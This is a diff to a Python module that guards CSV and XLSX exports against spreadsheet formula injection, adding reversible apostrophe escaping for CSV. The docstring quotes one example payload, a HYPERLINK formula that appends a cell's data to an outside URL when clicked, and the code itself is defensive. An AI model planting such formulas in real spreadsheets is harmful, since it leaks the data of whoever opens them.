@@ -4,7 +4,11 @@ A spreadsheet runs a cell that starts with ``= + - @`` (also after leading space
 tab or carriage return, as a formula: a staff name ``=HYPERLINK("http://…?leak="&A2,"คลิก")``
 would send the sheet's data away when clicked. Every exporter writes through these helpers:
 
-- CSV: such a value gets a leading apostrophe (``'=HYPERLINK(…``), the OWASP advice.
+- CSV: such a value gets a leading apostrophe (``'=HYPERLINK(…``), the OWASP advice. So does
+  a value that already starts with apostrophes before such a character (``'=1`` typed as is
+  is written ``''=1``): the import undoes exactly one apostrophe before such a value
+  (:func:`csv_value`, used by service/csv_input.py), so export then import gives back every
+  value as it was, and an apostrophe the export did not add (``'0812``, ``'-5``) stays.
 - XLSX: the value is written unchanged as a *text* cell with ``quotePrefix`` set (what Excel
   does when you type an apostrophe), never as a formula.
 
@@ -37,9 +41,20 @@ def is_dangerous(value: object) -> bool:
     return not (core == "-" or _NUMBER.match(core))
 
 
+def _protected(value: object) -> bool:
+    """Whether the CSV export puts an apostrophe before ``value``."""
+    return isinstance(value, str) and is_dangerous(value.lstrip("'"))
+
+
 def csv_cell(value: object) -> object:
     """A value safe to write to a CSV cell."""
-    return "'" + value if is_dangerous(value) else value
+    return "'" + value if _protected(value) else value
+
+
+def csv_value(cell: str) -> str:
+    """A CSV cell as read back: the inverse of :func:`csv_cell` (``csv_value(csv_cell(v)) == v``
+    for every string): the apostrophe is removed only where the export adds one."""
+    return cell[1:] if cell.startswith("'") and _protected(cell[1:]) else cell
 
 
 def csv_bytes(rows, bom: bool = True) -> bytes:
